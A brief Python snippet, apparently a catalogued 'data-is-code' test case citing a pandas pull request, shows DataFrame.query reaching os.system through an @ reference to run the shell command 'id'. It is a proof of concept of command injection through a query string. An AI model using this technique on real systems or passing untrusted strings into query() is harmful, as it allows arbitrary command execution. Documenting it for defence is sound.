# Source: https://github.com/pandas-dev/pandas/pull/58697
# Family: data-is-code
# What: DataFrame.query with an @ reference to pd.compat.os.system
import pandas as pd

df = pd.DataFrame({"a": [1, 2, 3]})
df.query("@pd.compat.os.system('id')")
